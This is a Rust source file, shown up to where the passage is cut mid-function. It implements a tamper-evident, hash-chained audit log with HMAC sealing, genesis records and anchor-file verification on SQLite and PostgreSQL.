//! The append-only, hash-chained audit trail (CONTRACTS §6).
//!
//! Row `seq` (from 1, no gaps) has `hash` = lowercase hex SHA-256 of the UTF-8 JSON array
//!
//! ```text
//! [seq, at, actor, actor_chat_id, action, subject, app, request, connector_action,
//!  outcome, detail, prev_hash]
//! ```
//!
//! as `serde_json` writes it (no spaces; absent values are `null`; `at` is RFC 3339 UTC with
//! six fractional digits and a `Z`, e.g. `2025-01-02T03:04:05.000006Z`). `prev_hash` is the
//! previous row's `hash`, 64 zeros for the first row. The encoding is unambiguous: every field
//! is a JSON scalar in a fixed position.
//!
//! With an audit key, the chain's head is sealed in `audit_seal` as
//! `(seq, hash, hex HMAC-SHA256(key, "{seq}:{hash}"))`, rewritten in the transaction that
//! appends. Without the key, someone with SQL access can cut rows off the end, or recompute
//! the whole chain, undetectably; with it, they cannot.

use std::borrow::Cow;
use std::io::Write;

use chrono::{DateTime, SecondsFormat, Utc};
use hmac::{Hmac, Mac};
use secrecy::{ExposeSecret, SecretSlice};
use serde::{Deserialize, Deserializer, Serialize};
use sha2::{Digest, Sha256};

use super::anchor::{AnchorLine, Head, parse_anchors};
use super::db::{DbRow, Tx, q};
use super::rows::{from_micros, micros};
use super::{DbError, SqlStore, store_err};
use crate::core::model::{Actor, AuditEvent, RequestId};
use crate::core::ports::StoreError;

/// The `prev_hash` of the first row.
pub const GENESIS: &str = "0000000000000000000000000000000000000000000000000000000000000000";

/// The PostgreSQL advisory lock key that serialises audit appends ("qm-audit" in ASCII).
const AUDIT_LOCK: i64 = 0x716d_2d61_7564_6974;

/// Rows read per page by the row-by-row verification (the fallback).
const PAGE: i64 = 1000;

/// Rows the database packs into one JSON value per page while verifying.
const PACKED_PAGE: i64 = 20_000;

/// Rows per hashing thread below which a page is hashed on one thread.
const PARALLEL_MIN: usize = 2_000;

/// One stored audit row, as exported (`audit export`) and as hashed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AuditRecord {
    /// Position in the chain, from 1.
    pub seq: i64,
    /// When, RFC 3339 UTC with microseconds.
    pub at: String,
    /// A handle, `system` or `hr`.
    pub actor: String,
    /// The actor's chat id, when the event came from chat.
    pub actor_chat_id: Option<String>,
    /// Dotted name such as `request.submitted`: the stored text, hashed and exported as it
    /// is ([`crate::core::audit::AuditAction`] is the vocabulary it is written from).
    pub action: String,
    /// Whom it concerns (a handle).
    pub subject: Option<String>,
    /// The app's name.
    pub app: Option<String>,
    /// The request number.
    pub request: Option<i64>,
    /// The connector action's id.
    pub connector_action: Option<i64>,
    /// `ok`, `refused`, `failed`, `already`… (stored text, as `action`; the vocabulary is
    /// [`crate::core::audit::AuditOutcome`]).
    pub outcome: String,
    /// Free text for people.
    pub detail: String,
    /// This row's hash (lowercase hex SHA-256).
    pub hash: String,
    /// The previous row's hash.
    pub prev_hash: String,
}

impl AuditRecord {
    /// The hash this row should carry, from its content and `prev_hash`.
    pub fn compute_hash(&self) -> String {
        chain_hash(
            self.seq,
            &self.at,
            &self.actor,
            self.actor_chat_id.as_deref(),
            &self.action,
            self.subject.as_deref(),
            self.app.as_deref(),
            self.request,
            self.connector_action,
            &self.outcome,
            &self.detail,
            &self.prev_hash,
        )
    }
}

/// The outcome of [`SqlStore::verify_audit`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VerifyReport {
    /// Every row verifies.
    Ok {
        /// Rows checked.
        rows: u64,
        /// Whether the head was also checked against the HMAC seal. When false, rows cut off
        /// the end of the chain (or a recomputed chain) cannot be detected.
        sealed: bool,
    },
    /// The first row that does not verify.
    Broken {
        /// Its `seq`.
        seq: i64,
        /// What is wrong, for people.
        reason: String,
    },
}

impl VerifyReport {
    /// True when the chain verified.
    pub fn is_ok(&self) -> bool {
        matches!(self, Self::Ok { .. })
    }
}

impl std::fmt::Display for VerifyReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Ok { rows, sealed: true } => {
                write!(f, "audit chain OK: {rows} rows, head matches the HMAC seal")
            }
            Self::Ok {
                rows,
                sealed: false,
            } => write!(
                f,
                "audit chain OK: {rows} rows (no audit key: truncation of the newest rows and a \
                 recomputed chain are not detectable; set [audit] key_env)"
            ),
            Self::Broken { seq, reason } => {
                write!(f, "audit row {seq} does not verify: {reason}")
            }
        }
    }
}

/// The RFC 3339 form of a stored timestamp, as hashed and exported.
pub(super) fn rfc3339(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Micros, true)
}

#[allow(clippy::too_many_arguments)]
fn chain_hash(
    seq: i64,
    at: &str,
    actor: &str,
    actor_chat_id: Option<&str>,
    action: &str,
    subject: Option<&str>,
    app: Option<&str>,
    request: Option<i64>,
    connector_action: Option<i64>,
    outcome: &str,
    detail: &str,
    prev_hash: &str,
) -> String {
    // The canonical form has one definition, `canonical_into` (which the verifier uses too);
    // a test pins it to the `json!([...])` text the chain was first written with.
    let mut buf = Vec::with_capacity(256);
    canonical_into(
        &mut buf,
        seq,
        at,
        actor,
        actor_chat_id,
        action,
        subject,
        app,
        request,
        connector_action,
        outcome,
        detail,
        prev_hash,
    )
    .expect("a tuple of strings and integers always serialises into a Vec");
    hex::encode(Sha256::digest(&buf))
}

type HmacSha256 = Hmac<Sha256>;

fn seal_mac(key: &SecretSlice<u8>, seq: i64, hash: &str) -> Result<HmacSha256, DbError> {
    let mut mac = HmacSha256::new_from_slice(key.expose_secret())
        .map_err(|e| DbError::Corrupt(format!("unusable audit key: {e}")))?;
    mac.update(format!("{seq}:{hash}").as_bytes());
    Ok(mac)
}

fn actor_text(a: &Actor) -> String {
    a.to_string()
}

/// Appends `events` to the chain inside `tx` (which must hold the write lock), resolving
/// `ReqRef::New` to `new_request`, and reseals the head when a key is given. Returns the new
/// head (to anchor once the transaction commits), or `None` when there was nothing to append.
pub(super) async fn append(
    tx: &mut Tx,
    events: &[AuditEvent],
    new_request: Option<RequestId>,
    key: Option<&SecretSlice<u8>>,
) -> Result<Option<Head>, StoreError> {
    if events.is_empty() {
        return Ok(None);
    }
    if tx.is_pg() {
        // Several writers (instances) append concurrently on PostgreSQL: the lock, held until
        // this transaction ends, makes "read the head, append after it" atomic, so the rows
        // form one chain. The waiter's next statement sees the holder's committed rows.
        q("SELECT pg_advisory_xact_lock(?)")
            .bind(AUDIT_LOCK)
            .execute(&mut *tx)
            .await
            .map_err(store_err)?;
    }
    let last = q("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1")
        .fetch_optional(&mut *tx)
        .await
        .map_err(store_err)?;
    let (mut seq, mut prev) = match last {
        Some(r) => (
            r.try_get::<i64, _>("seq").map_err(store_err)?,
            r.try_get::<String, _>("hash").map_err(store_err)?,
        ),
        None => (0, GENESIS.to_owned()),
    };
    let starts_chain = seq == 0;
    // Every row goes in with one statement (a JSON array of rows, one bind): an engine
    // batch appends one row per action.
    let mut rows = Vec::with_capacity(events.len());
    let mut first_hash = String::new();
    for e in events {
        seq += 1;
        let request = super::resolve_req(e.request, new_request)?;
        let at_us = micros(e.at);
        // Hash the stored (microsecond) form, so verification recomputes the same text.
        let at = rfc3339(from_micros(at_us)?);
        let actor = actor_text(&e.actor);
        let subject = e.subject.as_ref().map(|h| h.as_str());
        let app = e.app.as_ref().map(|a| a.as_str());
        let connector_action = e.connector_action.map(|a| a.0);
        let hash = chain_hash(
            seq,
            &at,
            &actor,
            e.actor_chat_id.as_deref(),
            e.action.as_str(),
            subject,
            app,
            request,
            connector_action,
            e.outcome.as_str(),
            &e.detail,
            &prev,
        );
        if seq == 1 {
            first_hash.clone_from(&hash);
        }
        rows.push(serde_json::json!({
            "seq": seq,
            "at": at_us,
            "actor": actor,
            "actor_chat_id": e.actor_chat_id,
            "action": e.action.as_str(),
            "subject": subject,
            "app": app,
            "request_id": request,
            "connector_action": connector_action,
            "outcome": e.outcome.as_str(),
            "detail": e.detail,
            "prev_hash": prev,
            "hash": hash,
        }));
        prev = hash;
    }
    q(
        "INSERT INTO audit (seq, at, actor, actor_chat_id, action, subject, app, request_id, \
       connector_action, outcome, detail, prev_hash, hash) \
       SELECT json_extract(value, '$.seq'), json_extract(value, '$.at'), \
       json_extract(value, '$.actor'), json_extract(value, '$.actor_chat_id'), \
       json_extract(value, '$.action'), json_extract(value, '$.subject'), \
       json_extract(value, '$.app'), json_extract(value, '$.request_id'), \
       json_extract(value, '$.connector_action'), json_extract(value, '$.outcome'), \
       json_extract(value, '$.detail'), json_extract(value, '$.prev_hash'), \
       json_extract(value, '$.hash') FROM json_each(?)",
    )
    .pg(
        "INSERT INTO audit (seq, at, actor, actor_chat_id, action, subject, app, request_id, \
         connector_action, outcome, detail, prev_hash, hash) \
         SELECT seq, at, actor, actor_chat_id, action, subject, app, request_id, \
         connector_action, outcome, detail, prev_hash, hash \
         FROM json_to_recordset($1::json) AS r(seq bigint, at bigint, actor text, \
         actor_chat_id text, action text, subject text, app text, request_id bigint, \
         connector_action bigint, outcome text, detail text, prev_hash text, hash text)",
    )
    .bind(serde_json::Value::Array(rows).to_string())
    .execute(&mut *tx)
    .await
    .map_err(store_err)?;
    if starts_chain {
        // The genesis record remembers the chain's first row, so an emptied table does not
        // pass for a fresh database. Once set, it is never changed.
        q("UPDATE audit_genesis SET first_hash = ? WHERE id = 1 AND first_hash IS NULL")
            .bind(&first_hash)
            .execute(&mut *tx)
            .await
            .map_err(store_err)?;
    }
    let mut mac = None;
    if let Some(key) = key {
        let m = hex::encode(seal_mac(key, seq, &prev)?.finalize().into_bytes());
        q(
            "INSERT INTO audit_seal (id, seq, hash, mac) VALUES (1, ?, ?, ?) \
             ON CONFLICT (id) DO UPDATE SET seq = excluded.seq, hash = excluded.hash, \
             mac = excluded.mac",
        )
        .bind(seq)
        .bind(&prev)
        .bind(&m)
        .execute(&mut *tx)
        .await
        .map_err(store_err)?;
        mac = Some(m);
    }
    Ok(Some(Head {
        seq,
        hash: prev,
        mac,
    }))
}

macro_rules! audit_cols {
    () => {
        "SELECT seq, at, actor, actor_chat_id, action, subject, app, request_id, \
         connector_action, outcome, detail, prev_hash, hash FROM audit "
    };
}

fn record_from_row(row: &DbRow) -> Result<AuditRecord, DbError> {
    Ok(AuditRecord {
        seq: row.try_get("seq")?,
        at: rfc3339(from_micros(row.try_get("at")?)?),
        actor: row.try_get("actor")?,
        actor_chat_id: row.try_get("actor_chat_id")?,
        action: row.try_get("action")?,
        subject: row.try_get("subject")?,
        app: row.try_get("app")?,
        request: row.try_get("request_id")?,
        connector_action: row.try_get("connector_action")?,
        outcome: row.try_get("outcome")?,
        detail: row.try_get("detail")?,
        hash: row.try_get("hash")?,
        prev_hash: row.try_get("prev_hash")?,
    })
}

/// How far a verification has come: the next `seq` expected, the last row read, the hash
/// the next row must link to, and the rows checked.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Chain {
    expected_seq: i64,
    after: i64,
    prev: String,
    rows: u64,
}

impl Chain {
    fn start() -> Self {
        Self {
            expected_seq: 1,
            // The first page starts below 1, so stray rows numbered 0 or less are seen too.
            after: i64::MIN,
            prev: GENESIS.to_owned(),
            rows: 0,
        }
    }

    /// The verdict when row `seq` does not carry the next number.
    fn misnumbered(&self, seq: i64) -> Option<VerifyReport> {
        let expected_seq = self.expected_seq;
        if seq == expected_seq {
            return None;
        }
        let reason = if seq < expected_seq {
            format!("it is numbered outside the chain (expected row {expected_seq})")
        } else if seq - expected_seq == 1 {
            format!("row {expected_seq} before it is missing (deleted)")
        } else {
            format!(
                "rows {expected_seq} to {} before it are missing (deleted)",
                seq - 1
            )
        };
        Some(VerifyReport::Broken { seq, reason })
    }

    /// Checks one row, in the order the verdicts are given: numbering, content, link. On
    /// success the row becomes the chain's head.
    fn check(
        &mut self,
        seq: i64,
        hash_ok: bool,
        prev_hash: &str,
        hash: &str,
    ) -> Option<VerifyReport> {
        if let Some(broken) = self.misnumbered(seq) {
            return Some(broken);
        }
        if !hash_ok {
            return Some(VerifyReport::Broken {
                seq,
                reason: "its content does not match its hash (the row was changed)".into(),
            });
        }
        if prev_hash != self.prev {
            return Some(VerifyReport::Broken {
                seq,
                reason: "its prev_hash is not the hash of the row before it (rows were \
                         deleted, reordered or replaced)"
                    .into(),
            });
        }
        self.prev.clear();
        self.prev.push_str(hash);
        self.after = seq;
        self.expected_seq += 1;
        self.rows += 1;
        None
    }
}

/// A string the JSON parser lends from the page's text when it holds no escapes.
#[derive(Debug)]
struct Text<'a>(Cow<'a, str>);

impl<'de> Deserialize<'de> for Text<'de> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = Text<'de>;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("a string")
            }
            fn visit_borrowed_str<E>(self, v: &'de str) -> Result<Self::Value, E> {
                Ok(Text(Cow::Borrowed(v)))
            }
            fn visit_str<E>(self, v: &str) -> Result<Self::Value, E> {
                Ok(Text(Cow::Owned(v.to_owned())))
            }
            fn visit_string<E>(self, v: String) -> Result<Self::Value, E> {
                Ok(Text(Cow::Owned(v)))
            }
        }
        d.deserialize_str(V)
    }
}

impl Text<'_> {
    fn as_str(&self) -> &str {
        &self.0
    }
}

fn opt<'a>(t: &'a Option<Text<'_>>) -> Option<&'a str> {
    t.as_ref().map(Text::as_str)
}

/// One audit row as the database packs it: `[seq, at (µs), actor, actor_chat_id, action,
/// subject, app, request_id, connector_action, outcome, detail, prev_hash, hash]`.
type PackedRow<'a> = (
    i64,
    i64,
    Text<'a>,
    Option<Text<'a>>,
    Text<'a>,
    Option<Text<'a>>,
    Option<Text<'a>>,
    Option<i64>,
    Option<i64>,
    Text<'a>,
    Text<'a>,
    Text<'a>,
    Text<'a>,
);

/// One page of rows packed by the database into a single JSON array, so the driver decodes
/// one value per page instead of thirteen per row. The subquery fixes the rows and their
/// order: SQLite aggregates them in the order the subquery yields them, PostgreSQL's
/// `json_agg` is given the order. (Were a row ever out of place, the chain would not
/// verify: never a false OK.)
const PACKED_SQL: &str = "SELECT count(*), max(seq), json_group_array(json_array(seq, at, \
     actor, actor_chat_id, action, subject, app, request_id, connector_action, outcome, \
     detail, prev_hash, hash)) FROM (SELECT * FROM audit WHERE seq > ? ORDER BY seq LIMIT ?)";
const PACKED_SQL_PG: &str = "SELECT count(*), max(seq), json_agg(json_build_array(seq, at, \
     actor, actor_chat_id, action, subject, app, request_id, connector_action, outcome, \
     detail, prev_hash, hash) ORDER BY seq)::text FROM (SELECT * FROM audit WHERE seq > ? \
     ORDER BY seq LIMIT ?) AS page";

/// A packed page: how many rows, the last `seq`, and the JSON array.
struct Packed {
    count: i64,
    last: Option<i64>,
    json: String,
}

async fn fetch_packed(tx: &mut Tx, after: i64, limit: i64) -> Result<Packed, sqlx::Error> {
    let row = q(PACKED_SQL)
        .pg(PACKED_SQL_PG)
        .bind(after)
        .bind(limit)
        .fetch_one(tx)
        .await?;
    Ok(Packed {
        count: row.try_get(0)?,
        last: row.try_get(1)?,
        json: row.try_get::<Option<String>, _>(2)?.unwrap_or_default(),
    })
}

/// What checking one packed page found.
#[derive(Debug)]
enum PageOutcome {
    /// Every row verifies; the chain's head moved to the page's last row.
    Clean,
    /// The first row that does not verify.
    Broken(VerifyReport),
    /// A stored value cannot be read (as the row-by-row reading would report it).
    Corrupt(DbError),
    /// The page is not in the shape the packed reading expects (a value of an unexpected
    /// type, say): read these rows one by one instead, which gives the exact error.
    Unreadable,
}

/// Formats `us` (microseconds since the epoch) as [`rfc3339`] does, without chrono, into
/// `out`; `None` outside 1970-01-01 to 9999-12-31 (left to chrono).
fn rfc3339_micros(us: i64, out: &mut [u8; 27]) -> Option<&str> {
    const END: i64 = 253_402_300_800_000_000; // 10000-01-01T00:00:00Z
    if !(0..END).contains(&us) {
        return None;
    }
    let secs = us / 1_000_000;
    let frac = us % 1_000_000;
    let days = secs / 86_400;
    let sod = secs % 86_400;
    // Civil date from days since 1970-01-01 (H. Hinnant's algorithm, non-negative days).
    let z = days + 719_468;
    let era = z / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    let mut put = |at: usize, width: usize, mut v: i64| {
        for i in (at..at + width).rev() {
            out[i] = b'0' + (v % 10) as u8;
            v /= 10;
        }
    };
    put(0, 4, year);
    put(5, 2, month);
    put(8, 2, day);
    put(11, 2, sod / 3600);
    put(14, 2, sod / 60 % 60);
    put(17, 2, sod % 60);
    put(20, 6, frac);
    for (i, c) in [
        (4, b'-'),
        (7, b'-'),
        (10, b'T'),
        (13, b':'),
        (16, b':'),
        (19, b'.'),
        (26, b'Z'),
    ] {
        out[i] = c;
    }
    std::str::from_utf8(out).ok()
}

/// Writes a row's canonical JSON (the text its hash is taken over) into `buf`: the compact
/// JSON array of its fields, without building a `serde_json::Value`.
#[allow(clippy::too_many_arguments)]
fn canonical_into(
    buf: &mut Vec<u8>,
    seq: i64,
    at: &str,
    actor: &str,
    actor_chat_id: Option<&str>,
    action: &str,
    subject: Option<&str>,
    app: Option<&str>,
    request: Option<i64>,
    connector_action: Option<i64>,
    outcome: &str,
    detail: &str,
    prev_hash: &str,
) -> Result<(), serde_json::Error> {
    buf.clear();
    serde_json::to_writer(
        &mut *buf,
        &(
            seq,
            at,
            actor,
            actor_chat_id,
            action,
            subject,
            app,
            request,
            connector_action,
            outcome,
            detail,
            prev_hash,
        ),
    )
}

/// Whether a packed row's stored hash matches its content, with `at` already formatted.
fn packed_hash_ok(r: &PackedRow<'_>, at: &str, buf: &mut Vec<u8>) -> Result<bool, DbError> {
    canonical_into(
        buf,
        r.0,
        at,
        r.2.as_str(),
        opt(&r.3),
        r.4.as_str(),
        opt(&r.5),
        opt(&r.6),
        r.7,
        r.8,
        r.9.as_str(),
        r.10.as_str(),
        r.11.as_str(),
    )
    .map_err(|e| DbError::Corrupt(format!("audit row {} cannot be serialised: {e}", r.0)))?;
    let mut hex = [0u8; 64];
    hex::encode_to_slice(Sha256::digest(&buf[..]), &mut hex)
        .map_err(|e| DbError::Corrupt(format!("hex: {e}")))?;
    Ok(hex[..] == *r.12.as_str().as_bytes())
}

/// The hash verdict of each row, `None` where `at` is outside the fast formatter's range
/// (those rows are redone in order, through chrono, by [`check_packed`]).
fn hash_verdicts(rows: &[PackedRow<'_>]) -> Vec<Option<Result<bool, DbError>>> {
    let run = |rows: &[PackedRow<'_>]| {
        let mut buf = Vec::with_capacity(512);
        let mut at = [0u8; 27];
        rows.iter()
            .map(|r| rfc3339_micros(r.1, &mut at).map(|at| packed_hash_ok(r, at, &mut buf)))
            .collect::<Vec<_>>()
    };
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get().min(4));
    if threads < 2 || rows.len() < 2 * PARALLEL_MIN {
        return run(rows);
    }
    let chunk = rows.len().div_ceil(threads);
    std::thread::scope(|s| {
        let mut parts = rows.chunks(chunk);
        let first = parts.next().unwrap_or_default();
        let handles: Vec<_> = parts.map(|part| s.spawn(move || run(part))).collect();
        let mut all = run(first);
        for h in handles {
            match h.join() {
                Ok(v) => all.extend(v),
                Err(panic) => std::panic::resume_unwind(panic),
            }
        }
        all
    })
}

/// Checks one packed page against the chain so far. The hashes are computed on every core;
/// the verdicts are then taken in row order, so the first broken row is the one reported,
/// with the same reason as the row-by-row reading.
fn check_packed(json: &str, chain: &mut Chain) -> PageOutcome {
    let Ok(rows) = serde_json::from_str::<Vec<PackedRow<'_>>>(json) else {
        return PageOutcome::Unreadable;
    };
    let verdicts = hash_verdicts(&rows);
    let mut buf = Vec::new();
    for (r, verdict) in rows.iter().zip(verdicts) {
        let verdict = match verdict {
            Some(v) => v,
            // Outside 1970..9999: as the row-by-row reading does, through chrono, which
            // also reports a timestamp it cannot represent.
            None => match from_micros(r.1) {
                Ok(t) => packed_hash_ok(r, &rfc3339(t), &mut buf),
                Err(e) => return PageOutcome::Corrupt(e),
            },
        };
        let hash_ok = match verdict {
            Ok(ok) => ok,
            Err(e) => return PageOutcome::Corrupt(e),
        };
        if let Some(broken) = chain.check(r.0, hash_ok, r.11.as_str(), r.12.as_str()) {
            return PageOutcome::Broken(broken);
        }
    }
    PageOutcome::Clean
}

/// Verifies the rows after `chain.after` one by one through the driver (the reference
/// reading, and the fallback for rows the packed reading cannot take).
async fn verify_rows(tx: &mut Tx, chain: &mut Chain) -> Result<Option<VerifyReport>, DbError> {
    loop {
        let page = q(concat!(audit_cols!(), "WHERE seq > ? ORDER BY seq LIMIT ?"))
            .bind(chain.after)
            .bind(PAGE)
            .fetch_all(&mut *tx)
            .await?;
        let done = (page.len() as i64) < PAGE;
        for row in &page {
            let r = record_from_row(row)?;
            if let Some(broken) =
                chain.check(r.seq, r.compute_hash() == r.hash, &r.prev_hash, &r.hash)
            {
                return Ok(Some(broken));
            }
        }
        if done {
            return Ok(None);
        }
    }
}

/// Verifies the rows after `chain.after`, a packed page at a time: the next page is fetched
/// while the current one is hashed on a blocking thread.
async fn verify_packed(
    tx: &mut Tx,
    chain: &mut Chain,
    page_rows: i64,
) -> Result<Option<VerifyReport>, DbError> {
    let mut fetched = fetch_packed(tx, chain.after, page_rows).await;
    loop {
        let page = match fetched {
            Ok(p) => p,
            // SQLite cannot pack some stored values (a BLOB, say); its transaction survives
            // the failed statement, so read those rows one by one for the exact error.
            // PostgreSQL has typed columns, and an error aborts the transaction.
            Err(_) if !tx.is_pg() => return verify_rows(tx, chain).await,
            Err(e) => return Err(e.into()),
        };
        let more = page.count >= page_rows;
        let next_after = page.last.unwrap_or(chain.after);
        let mut state = chain.clone();
        let check = tokio::task::spawn_blocking(move || {
            let outcome = check_packed(&page.json, &mut state);
            (state, outcome)
        });
        let prefetch = async {
            if more {
                Some(fetch_packed(tx, next_after, page_rows).await)
            } else {
                None
            }
        };
        let (checked, next) = tokio::join!(check, prefetch);
        let (state, outcome) = match checked {
            Ok(v) => v,
            Err(e) => match e.try_into_panic() {
                Ok(panic) => std::panic::resume_unwind(panic),
                Err(e) => return Err(DbError::Corrupt(format!("audit check stopped: {e}"))),
            },
        };
        match outcome {
            PageOutcome::Clean => *chain = state,
            PageOutcome::Broken(report) => return Ok(Some(report)),
            PageOutcome::Corrupt(e) => return Err(e),
            PageOutcome::Unreadable => return verify_rows(tx, chain).await,
        }
        match next {
            Some(n) => fetched = n,
            None => return Ok(None),
        }
    }
}

/// The genesis record's verdict on a chain of `rows` rows that verified: it must exist, and a
/// chain that ever had a row 1 must still start with that row.
async fn check_genesis(tx: &mut Tx, rows: u64) -> Result<Option<VerifyReport>, DbError> {
    let Some(g) = q("SELECT created_at, first_hash FROM audit_genesis WHERE id = 1")
        .fetch_optional(&mut *tx)
        .await?
    else {
        return Ok(Some(VerifyReport::Broken {
            seq: 0,
            reason: "the genesis record written when the database was created is missing (it \
                     was deleted)"
                .into(),
        }));
    };
    let created = rfc3339(from_micros(g.try_get("created_at")?)?);
    let first: Option<String> = g.try_get("first_hash")?;
    let broken = |reason: String| Ok(Some(VerifyReport::Broken { seq: 1, reason }));
    match first {
        None if rows == 0 => Ok(None),
        None => broken(format!(
            "the genesis record (database created at {created}) does not name the chain's \
             first row although the chain has rows: it was cleared"
        )),
        Some(h) if rows == 0 => broken(format!(
            "the database was created at {created} and its chain began with row 1 (hash \
             {}…), but the chain is empty: the audit rows were deleted",
            h.get(..12).unwrap_or(&h)
        )),
        Some(h) => {
            let row1: String = q("SELECT hash FROM audit WHERE seq = 1")
                .fetch_one(&mut *tx)
                .await?
                .try_get("hash")?;
            if row1 == h {
                Ok(None)
            } else {
                broken(format!(
                    "row 1 is not the row the chain began with (the genesis record of the \
                     database created at {created} names hash {}…): the chain was replaced",
                    h.get(..12).unwrap_or(&h)
                ))
            }
        }
    }
}

/// What `audit verify --anchors` found in the anchor file, when the chain agrees with it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AnchorSummary {
    /// `seal` lines checked.
    pub seals: usize,
    /// The highest anchored row (0 when none).
    pub highest: i64,
}

impl SqlStore {
    /// [`SqlStore::verify_audit`], then the chain against the text of an anchor file (read
    /// before the database, so every line in it was written after its rows committed): every
    /// `genesis` line must name this database's creation, every `seal` line's row must exist
    /// with that hash, and with a key its MAC must verify. A failure names the `seq`.
    pub async fn verify_audit_anchored(
        &self,
        anchors: &str,
    ) -> Result<(VerifyReport, AnchorSummary), DbError> {
        let lines =
            parse_anchors(anchors).map_err(|e| DbError::Anchor(format!("the anchor file: {e}")))?;
        let report = self.verify_audit().await?;
        let VerifyReport::Ok { rows, .. } = report else {
            return Ok((
                report,
                AnchorSummary {
                    seals: 0,
                    highest: 0,
                },
            ));
        };
        let rows = i64::try_from(rows).unwrap_or(i64::MAX);
        let mut tx = self.pool.begin_read().await?;
        let created_at: i64 = q("SELECT created_at FROM audit_genesis WHERE id = 1")
            .fetch_one(&mut tx)
            .await?
            .try_get("created_at")?;
        let created = from_micros(created_at)?;
        // (seq, hash, line), by seq then line.
        let mut seals: Vec<(i64, &str, usize)> = Vec::new();
        let broken = |seq: i64, reason: String| {
            Ok((
                VerifyReport::Broken { seq, reason },
                AnchorSummary {
                    seals: 0,
                    highest: 0,
                },
            ))
        };
        for (n, line) in &lines {
            match line {
                AnchorLine::Genesis { created_at } => {
                    let at = DateTime::parse_from_rfc3339(created_at)
                        .map(|t| t.with_timezone(&Utc))
                        .ok();
                    if at != Some(created) {
                        return broken(
                            0,
                            format!(
                                "the anchor file (line {n}) was started for a database created \
                                 at {created_at}, but this database was created at {}: it was \
                                 replaced or re-created",
                                rfc3339(created)
                            ),
                        );
                    }
                }
                AnchorLine::Seal { seq, hash, mac } => {
                    if let (Some(key), Some(mac)) = (self.audit_key.as_deref(), mac) {
                        let ok = hex::decode(mac)
                            .ok()
                            .map(|tag| {
                                seal_mac(key, *seq, hash).map(|m| m.verify_slice(&tag).is_ok())
                            })
                            .transpose()?
                            .unwrap_or(false);
                        if !ok {
                            return broken(
                                *seq,
                                format!(
                                    "the anchor file's line {n} for row {seq} carries a MAC \
                                     that does not verify with the configured key (it was not \
                                     written by Quartermaster with this key)"
                                ),
                            );
                        }
                    }
                    seals.push((*seq, hash.as_str(), *n));
                }
            }
        }
        seals.sort_unstable();
        if let Some(&(seq, _, n)) = seals.iter().rev().find(|s| s.0 > rows) {
            return broken(
                seq,
                format!(
                    "the anchor file (line {n}) records row {seq}, but the chain ends at row \
                     {rows}: rows were removed from the end (truncation or a rollback)"
                ),
            );
        }
        // Walk the anchored rows' hashes in seq order, a page at a time.
        let mut next = 0;
        let mut after = 0i64;
        while next < seals.len() {
            let page =
                q("SELECT seq, hash FROM audit WHERE seq > ? AND seq <= ? ORDER BY seq LIMIT ?")
                    .bind(after.max(seals[next].0 - 1))
                    .bind(seals[seals.len() - 1].0)
                    .bind(PACKED_PAGE)
                    .fetch_all(&mut tx)
                    .await?;
            if page.is_empty() {
                break;
            }
            for row in &page {
                let seq: i64 = row.try_get("seq")?;
                let hash: String = row.try_get("hash")?;
                if let Some(&(missing, _, n)) = seals.get(next).filter(|s| s.0 < seq) {
                    return broken(
                        missing,
                        format!(
                            "row {missing}, which the anchor file recorded (line {n}), is missing"
                        ),
                    );
                }
                while next < seals.len() && seals[next].0 == seq {
                    let (_, anchored, n) = seals[next];
                    if anchored != hash {
                        return broken(
                            seq,
                            format!(
                                "row {seq}'s hash differs from the one the anchor file recorded \
                                 (line {n}): the chain was rolled back and rewritten from there"
                            ),
                        );
                    }
                    next += 1;
                }
                after = seq;
            }
        }
        if let Some(&(missing, _, n)) = seals.get(next) {
            return broken(
                missing,
                format!("row {missing}, which the anchor file recorded (line {n}), is missing"),
            );
        }
        let summary = AnchorSummary {
            seals: seals.len(),
            highest: seals.last().map_or(0, |s| s.0),
        };
        Ok((report, summary))
    }

    /// Checks the whole audit chain: every row's hash, its link to the previous row, gaps in
    /// `seq`, and — with an audit key — the HMAC seal over the head. Reads one snapshot.
    pub async fn verify_audit(&self) -> Result<VerifyReport, DbError> {
        // Packing pages pays on SQLite (1M rows: 8.1 s instead of 25.9 s on a loaded machine).
        // On PostgreSQL, json_agg made the server slower than sending plain rows (20.4 s
        // against 17.6 s in the same run), so it reads rows.
        let packed = self.pool.is_sqlite().then_some(PACKED_PAGE);
        self.verify_audit_with(packed).await
    }

    /// [`SqlStore::verify_audit`] with the rows read as packed pages of `packed_page` rows,
    /// or one by one through the driver (`None`: the reference reading, slower). Both give
    /// the same verdicts; benchmarks and tests compare them.
    #[doc(hidden)]
    pub async fn verify_audit_with(
        &self,
        packed_page: Option<i64>,
    ) -> Result<VerifyReport, DbError> {
        // One read transaction: a writer appending meanwhile cannot make chain and seal
        // disagree.
        let mut tx = self.pool.begin_read().await?;
        let mut chain = Chain::start();
        let broken = match packed_page {
            Some(n) => verify_packed(&mut tx, &mut chain, n.max(1)).await?,
            None => verify_rows(&mut tx, &mut chain).await?,
        };
        if let Some(report) = broken {
            return Ok(report);
        }
        let Chain {
            expected_seq,
            prev,
            rows,
            ..
        } = chain;
        let last_seq = expected_seq - 1;
        if let Some(report) = check_genesis(&mut tx, rows).await? {
            return Ok(report);
        }

        let Some(key) = self.audit_key.as_deref() else {
            return Ok(VerifyReport::Ok {
                rows,
                sealed: false,
            });
        };
        let seal = q("SELECT seq, hash, mac FROM audit_seal WHERE id = 1")
            .fetch_optional(&mut tx)
            .await?;
        let Some(seal) = seal else {
            if rows == 0 {
                return Ok(VerifyReport::Ok { rows, sealed: true });
